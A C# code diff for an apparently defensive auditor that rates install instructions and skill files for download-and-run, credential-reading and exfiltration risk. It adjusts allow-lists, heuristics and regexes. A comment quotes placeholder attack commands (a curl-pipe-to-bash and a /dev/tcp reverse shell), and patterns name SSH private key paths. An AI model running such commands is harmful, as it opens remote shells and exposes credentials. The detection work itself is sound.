@@ -23,6 +23,8 @@ public static partial class Origins
         "raw.githubusercontent.com/ohmyzsh/", "install.ohmyz.sh", "raw.githubusercontent.com/helm/", "get.acme.sh", "zed.dev", "install.pi-hole.net",
         "raw.githubusercontent.com/pyenv/", "pkgx.sh", "get.chezmoi.io", "get.jetify.com", "get.k0s.sh", "install.meteor.com", "code-server.dev",
         "raw.githubusercontent.com/golangci/", "install.crystal-lang.org", "get.wasmer.io", "wasmtime.dev", "dot.net", "install.julialang.org", "ohmyposh.dev",
+        "direnv.net", "just.systems", "raw.githubusercontent.com/ajeetdsouza/zoxide/", "raw.githubusercontent.com/rbenv/", "dprint.dev",
+        "raw.githubusercontent.com/jesseduffield/", "atuin.sh", "get.static-web-server.net", "moonrepo.dev", "keploy.io",
     ];
 
     /// <summary>download-exec: medium from a vendor's documented installer host, critical from anywhere else.</summary>
@@ -49,33 +51,10 @@ public static partial class Origins
         }
 
         return VendorInstallers.Any(v => target.StartsWith(v, StringComparison.OrdinalIgnoreCase) || target.Contains("." + v, StringComparison.OrdinalIgnoreCase))
-            || SelfNamed(text, target)
             ? AuditSeverity.Medium
             : AuditSeverity.Critical;
     }
 
-    /// <summary>
-    /// An installer from the tool's own site: the host's name (<c>rclone</c> of rclone.org, <c>atuin</c> of setup.atuin.sh,
-    /// the repository of a raw GitHub URL) is a command the same file runs (<c>rclone sync</c>, <c>`atuin search`</c>). Never
-    /// for a name of the platform (an "openclaw-cli" site is the lure's helper), nor for names shorter than four letters.
-    /// </summary>
-    private static bool SelfNamed(string text, string target)
-    {
-        var parts = target.Split('/');
-        var labels = parts[0].Split('.');
-        var name = parts[0].StartsWith("raw.githubusercontent.com", StringComparison.OrdinalIgnoreCase) || parts[0].Equals("github.com", StringComparison.OrdinalIgnoreCase)
-            ? parts.Length > 2 ? parts[2] : string.Empty
-            : labels.Length >= 2 ? labels[^2] : string.Empty;
-        if (name.Length < 4 || PlatformName().IsMatch(name) || !name.All(c => char.IsAsciiLetterOrDigit(c) || c == '-'))
-        {
-            return false;
-        }
-
-        return new Regex(@"(?m)(?:^[ \t]*(?:\$[ \t]+)?|`)" + Regex.Escape(name) + @"[ \t]+[\w-]", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant, TimeSpan.FromSeconds(1)).IsMatch(text);
-    }
-
-    [GeneratedRegex(@"claw|molt|agent|skill|helper|update|setup|install|runtime|download|cdn|static|files?|get|raw", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
-    private static partial Regex PlatformName();
 
     /// <summary>
     /// A command whose target is a placeholder (<c>curl http://&lt;ip&gt;/x | bash</c>, <c>bash -i &gt;&amp; /dev/tcp/&lt;ip&gt;/&lt;port&gt;</c>,
@@ -168,6 +147,12 @@ public static partial class Origins
             return AuditSeverity.Low;
         }
 
+        // The user's own settings on a code host (a repository's or account's secrets page) is where a token is configured.
+        if (OwnSettings().IsMatch(target))
+        {
+            return null;
+        }
+
         var lineStart = match.Index == 0 ? 0 : text.LastIndexOf('\n', match.Index - 1) + 1;
         if (GetsAKey().IsMatch(text.AsSpan(lineStart, match.Index - lineStart)))
         {
@@ -180,10 +165,26 @@ public static partial class Origins
         var domain = labels.Length >= 2 ? $"{labels[^2]}.{labels[^1]}" : host;
         var lineEnd = text.IndexOf('\n', match.Index);
         lineEnd = lineEnd < 0 ? text.Length : lineEnd;
+        // Off this line, or (a wrapped paragraph is one line) elsewhere than in this link.
         return text.AsSpan(0, lineStart).Contains(domain, StringComparison.OrdinalIgnoreCase) || text.AsSpan(lineEnd).Contains(domain, StringComparison.OrdinalIgnoreCase)
+            || Occurrences(text.AsSpan(lineStart, lineEnd - lineStart), domain) > Occurrences(value, domain)
             ? null
             : AuditSeverity.Low;
     }
+
+    private static int Occurrences(ReadOnlySpan<char> text, string value)
+    {
+        var count = 0;
+        for (var at = text.IndexOf(value, StringComparison.OrdinalIgnoreCase); at >= 0; at = text[(at + value.Length)..].IndexOf(value, StringComparison.OrdinalIgnoreCase) is var next && next >= 0 ? at + value.Length + next : -1)
+        {
+            count++;
+        }
+
+        return count;
+    }
+
+    [GeneratedRegex(@"^(?:github\.com|gitlab\.com|bitbucket\.org)/(?:[^/\s]+/){0,2}(?:-/)?settings/", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex OwnSettings();
 
     [GeneratedRegex(@"@(?:BotFather|userinfobot|RawDataBot|GetIDsBot|SpamBot|discord|telegram)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
     private static partial Regex OfficialBot();
@@ -263,13 +264,19 @@ public static partial class LineJudges
         return AuditSeverity.Medium;
     }
 
+    /// <summary>How far back a clause is read for a negation.</summary>
+    private const int ClauseReach = 300;
+
     /// <summary>
     /// "Never share your API key", "do not send your private key to anyone": a warning, not an instruction. The clause
     /// before the match (from the last sentence or clause break on its line) says not to.
     /// </summary>
     public static AuditSeverity? JudgeNotNegated(string text, Match match)
     {
-        var lineStart = match.Index == 0 ? 0 : text.LastIndexOf('\n', match.Index - 1) + 1;
+        // The clause is read back to its line's start, at most ClauseReach characters: a long line costs no more per match.
+        var reach = Math.Min(ClauseReach, match.Index);
+        var lineStart = match.Index == 0 ? 0 : text.LastIndexOf('\n', match.Index - 1, reach) + 1;
+        lineStart = lineStart == 0 ? match.Index - reach : lineStart;
         var before = text.AsSpan(lineStart, match.Index - lineStart);
         var clause = before[(before.LastIndexOfAny(".!?:;") + 1)..];
         return Negation().IsMatch(clause) ? null : AuditSeverity.Low;
@@ -284,6 +291,9 @@ public static partial class LineJudges
 
     [GeneratedRegex(@"\b(?:never|not|don't|dont|avoid|without|no\s+one|nobody|beware|scam\w*|phish\w*|warn\w*)\b|n't\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
     private static partial Regex Negation();
+
+    /// <summary>Whether the text says the secret is what to leave out ("remove your tokens", "without the key").</summary>
+    internal static bool LeavesOut(string text) => LeftOut().IsMatch(text);
 
     /// <summary>Whether the text says not to ("never", "do not"…), as <see cref="JudgeNotNegated"/> reads a clause.</summary>
     internal static bool Negates(string text) => Negation().IsMatch(text);
@@ -304,12 +314,16 @@ public static partial class LineJudges
     /// server: it is used, not read for sending, when it is the only key the line names (a key copied beside it still counts).
     /// </summary>
     public static AuditSeverity? JudgeCredentialRead(string text, Match match) =>
-        IdentityUse().IsMatch(match.Value) && KeyNames().Count(match.Value) == 1 ? null : AuditSeverity.Medium;
+        IdentityUse().IsMatch(match.Value) && KeyNames().Count(match.Value) == 1 || ExcludedPath().IsMatch(match.Value) ? null : AuditSeverity.Medium;
 
-    [GeneratedRegex(@"\.ssh[/\\]+(?:id_[a-z0-9_]+|identity)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    /// <summary>A path an archive or copy leaves out (<c>--exclude='.ssh/*'</c>): the match ends at it.</summary>
+    [GeneratedRegex(@"--exclude(?:-from)?[= ]+[""']?[^\s""']*[""']?.?$", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex ExcludedPath();
+
+    [GeneratedRegex(@"\.ssh[/\\]+(?:id_[a-z0-9_]+|identity|\$\{?\w+\}?)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
     private static partial Regex KeyNames();
 
-    [GeneratedRegex(@"(?:\s-i\s*|IdentityFile[\s=]+)[""']?[^\s""']*\.ssh[/\\]+(?:id_[a-z0-9_]+|identity)[^\w.]?$", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    [GeneratedRegex(@"(?:\s-i\s*|IdentityFile[\s=]+)[""']?[^\s""']*\.ssh[/\\]+(?:id_[a-z0-9_]+|identity|\$\{\w+\}|\$\w+)[^\w.]?$", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
     private static partial Regex IdentityUse();
 
     /// <summary>
@@ -318,7 +332,11 @@ public static partial class LineJudges
     /// so is a line under a heading that says so ("What this skill will never recommend", "Don't").
     /// </summary>
     public static AuditSeverity? JudgeCaution(string text, Match match) =>
-        Caution().IsMatch(LineOf(text, match.Index)) || NeverHeading().IsMatch(HeadingAbove(text, match.Index)) ? null : AuditSeverity.Low;
+        Caution().IsMatch(LineOf(text, match.Index)) || NeverHeading().IsMatch(HeadingAbove(text, match.Index)) || AboutHeading().IsMatch(LineOf(text, match.Index)) ? null : AuditSeverity.Low;
+
+    /// <summary>A heading that names the command it explains ("## About `xattr -d com.apple.quarantine`", "### Why not spctl --master-disable"): a title, not a step.</summary>
+    [GeneratedRegex(@"^[ \t]*#{1,6}[ \t]+(?:about|why|what|understanding|on|a\s+note\s+on|note\s+on|explain\w*|how\s+\S+\s+works)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex AboutHeading();
 
     /// <summary>The Markdown heading the offset is under (within 60 lines above), or nothing.</summary>
     private static string HeadingAbove(string text, int offset)
@@ -430,6 +448,6 @@ public static partial class LineJudges
     [GeneratedRegex(@"/<[\w.-]+$")]
     private static partial Regex ClosesPlaceholder();
 
-    [GeneratedRegex(@"(?:^|\|\||&&|;)\s*(?:echo|printf)\s+['""]?\s*(?:export\s+\w+=|alias\s|source\s|\.\s|PATH=|eval\s+\\?""?\$\((?:[\w./-]*/)?\w[\w-]*\s+(?:init|env|shellenv|completion|hook|activate)|fpath|autoload|#|for\s+\w+\s+in\s+[~$][^;'""]*;\s*do\s+(?:source|\.)\s)", RegexOptions.IgnoreCase)]
+    [GeneratedRegex(@"(?:^|\|\||&&|;)\s*(?:echo|printf)\s+['""]?\s*(?:export\s+\w+=|alias\s|source\s|\.\s|PATH=|eval\s+\\?""?\$\((?:[\w./~-]*/)?\w[\w-]*\s+(?:init|env|shellenv|completion|hook|activate)|fpath|autoload|#|for\s+\w+\s+in\s+[~$][^;'""]*;\s*do\s+(?:source|\.)\s)", RegexOptions.IgnoreCase)]
     private static partial Regex ConfigurationOnly();
 }
